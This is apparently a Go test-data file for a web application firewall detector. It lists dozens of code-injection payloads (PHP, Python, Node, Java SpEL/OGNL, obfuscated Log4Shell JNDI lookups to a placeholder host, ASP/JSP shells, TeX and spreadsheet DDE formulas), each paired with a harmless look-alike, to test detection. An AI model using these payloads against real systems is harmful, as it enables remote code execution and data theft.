package code

import "kongwaf/detect"

type row struct {
	name         string
	attack, twin string
	source       detect.Source
	field        string
	isName       bool
}

var rows = []row{
	{name: "PHP block", attack: "<?php system('id'); ?>", twin: "<?xml version=\"1.0\"?><a/>"},
	{name: "short PHP block", attack: "<?=`id`?>", twin: "a <? b"},
	{name: "call that runs a command", attack: "system('cat /etc/passwd');", twin: "the system ('the gadget') is new"},
	{name: "after a statement", attack: "1;system($_GET[c]);", twin: "1; system (2)"},
	{name: "information page", attack: "phpinfo()", twin: "phpinfo page"},
	{name: "evaluation of encoded code", attack: "eval(base64_decode('cGhwaW5mbygpOw=='))", twin: "evaluate(base) and decode"},
	{name: "assertion of input", attack: "assert($_POST[x])", twin: "assert(x > 0)"},
	{name: "passthru of encoded text", attack: "passthru(base64_decode('aWQ='))", twin: "pass through (see base64)"},
	{name: "complex variable", attack: "${@print(md5(31337))}", twin: "${name} owes ${amount}"},
	{name: "call in a complex variable", attack: "{${sleep(10)}}", twin: "{{user.name}}"},
	{name: "flag e of a regular expression", attack: "preg_replace('/x/e','phpinfo()','x')", twin: "str.replace(/x/e, '')"},
	{name: "Python import", attack: "__import__('os').system('id')", twin: "import os"},
	{name: "Python module", attack: "os.popen('id').read()", twin: "os.path.join('a', 'b')"},
	{name: "Python compile", attack: "eval(compile('import os','x','exec'))", twin: "evaluate and compile (x)"},
	{name: "subprocess", attack: "subprocess.check_output('id',shell=True)", twin: "the subprocess finished"},
	{name: "Node module", attack: "require('child_process').exec('id')", twin: "require('lodash')"},
	{name: "Node main module", attack: "global.process.mainModule.require('child_process').execSync('id')", twin: "process.env.NODE_ENV"},
	{name: "Java runtime", attack: "Runtime.getRuntime().exec(\"id\")", twin: "a runtime error"},
	{name: "SpEL", attack: "${T(java.lang.Runtime).getRuntime().exec('id')}", twin: "${java.version}"},
	{name: "SpEL by class loader", attack: "#{''.getClass().forName('java.lang.Runtime')}", twin: "#{title}"},
	{name: "OGNL (Struts)", attack: "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", twin: "100%{a}"},
	{name: "OGNL static call", attack: "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))", twin: "(#fff) and user@java.example"},
	{name: "OGNL context", attack: "#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false", twin: "see #context for more"},
	{name: "class loader property (Spring)", attack: "class.module.classLoader.resources.context.parent.pipeline.first.pattern", twin: "class.name", isName: true},
	{name: "JNDI lookup", attack: "${jndi:ldap://192.0.2.1/a}", twin: "${json:a}"},
	{name: "JNDI with nested lookups", attack: "${${lower:j}${upper:n}${lower:d}i:${lower:r}mi://192.0.2.1/a}", twin: "${a}${b}${c}"},
	{name: "JNDI with defaults", attack: "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.1/a}", twin: "${a:-b}"},
	{name: "JNDI with environment defaults", attack: "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://192.0.2.1/a}", twin: "${env:HOME}"},
	{name: "Groovy literal", attack: "\"id\".execute().text", twin: "\"x\".length()"},
	{name: "Lua", attack: "os.execute('id')", twin: "os.time()"},
	{name: "VBScript", attack: "CreateObject(\"WScript.Shell\").Run(\"cmd\")", twin: "document.createElement(\"a\")"},
	{name: "classic ASP shell", attack: "<%eval request(\"cmd\")%>", twin: "50<%60"},
	{name: "JSP", attack: "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>", twin: "5 <% 6"},
	{name: "Ruby", attack: "Kernel.system('id')", twin: "kernel 6.1 (stable)"},
	{name: "Ruby pipe", attack: "open('|id')", twin: "open('file')"},
	{name: "ERB", attack: "<%= `id` %>", twin: "<%= title %>"},
	{name: "Perl", attack: "';system('id');'", twin: "it's the system's fault"},
	{name: "TeX shell escape", attack: "\\immediate\\write18{id}", twin: "\\write it down"},
	{name: "TeX input", attack: "\\input{/etc/passwd}", twin: "\\input{chapter1}"},
	{name: "DDE", attack: "=cmd|'/C calc'!A0", twin: "=SUM(A1:A3)"},
	{name: "spreadsheet that reaches out", attack: "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", twin: "=AVERAGE(B1:B9)"},
	{name: "hidden property of process", attack: "this.constructor.constructor('return process')().mainModule.require('child_process').exec('id')", twin: "this.constructor.name"},
	{name: "source code is data", attack: "exec('rm -rf /tmp/x')", twin: "def run(cmd):\n    import os\n    # run the given command and wait\n    r = os.system('ls -la')\n    print('done with it')\n    return r\n"},
	{name: "regular expression", attack: "${system('id')}", twin: "re.exec('abc') && a.call(b)"},
	{name: "prose about a function", attack: "exec(\"id\")", twin: "You should never use eval() on input that you do not trust, said the teacher."},
}
